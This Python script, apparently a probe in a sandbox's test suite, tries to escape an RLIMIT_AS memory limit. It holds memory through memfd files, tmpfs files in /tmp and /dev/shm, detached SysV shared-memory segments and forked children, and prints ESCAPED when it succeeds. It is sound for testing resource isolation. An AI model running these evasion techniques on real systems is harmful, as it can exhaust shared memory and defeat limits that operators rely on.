"""Attack: hold memory that RLIMIT_AS does not count (argv[1] = mode, argv[2] = MiB to try).

memfd: many memfd files filled with write() (each under RLIMIT_FSIZE); tmpfs: files in the
private /tmp and /dev/shm (and memfd); shm: SysV shared memory segments (keys from argv[3])
filled then detached, so the address space stays small; anon: anonymous memory in child
processes (each under RLIMIT_AS). Prints ESCAPED when it holds all of it at the end.
"""

import ctypes
import mmap
import os
import sys
import time

print("ATTACK-START", flush=True)
mode, total = sys.argv[1], int(sys.argv[2])
chunk = b"x" * (1 << 20)
held = []


def fill_fd(fd: int, mib: int) -> None:
    for _ in range(mib):
        os.write(fd, chunk)


def shm(key: int, mib: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmid = libc.shmget(key, mib << 20, 0o600 | 0o1000)  # IPC_CREAT
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    addr = libc.shmat(shmid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    ctypes.memset(addr, 1, mib << 20)
    libc.shmdt(ctypes.c_void_p(addr))  # the segment keeps the memory, the address space is free
    held.append(shmid)


done = 0
step = 48
hold_r, hold_w = os.pipe()  # children wait on it: the writer never writes
while done < total:
    if mode == "memfd":
        fd = os.memfd_create("fill")
        fill_fd(fd, step)
        held.append(fd)
    elif mode == "tmpfs":
        for base in ("/tmp", "/dev/shm"):
            try:
                fd = os.open(f"{base}/fill{done}", os.O_CREAT | os.O_WRONLY, 0o600)
                fill_fd(fd, step // 2)
                os.close(fd)
            except OSError as exc:  # a full tmpfs: try the other places
                print(f"{base}: {exc}", flush=True)
        fd = os.memfd_create("fill")
        fill_fd(fd, step)
        held.append(fd)
    elif mode == "shm":
        shm(int(sys.argv[3]) + done // step, step)
    elif mode == "anon":
        r, w = os.pipe()
        if os.fork() == 0:
            block = mmap.mmap(-1, step << 20)
            block.write(b"y" * (step << 20))
            os.write(w, b"!")
            os.read(hold_r, 1)  # a real wait (time.sleep is the runtime's virtual clock)
            os._exit(0)
        os.close(w)
        os.read(r, 1)
    done += step
    print(f"HELD {done} MiB", flush=True)
if mode == "anon":  # children the kernel killed hold nothing
    time.sleep(0.5)
    dead = 0
    while True:
        try:
            if os.waitpid(-1, os.WNOHANG)[0] == 0:
                break
        except ChildProcessError:
            break
        dead += 1
    done -= dead * step
if done >= total:
    print(f"ESCAPED held {done} MiB outside RLIMIT_AS", flush=True)
print(f"END held {done} MiB", flush=True)
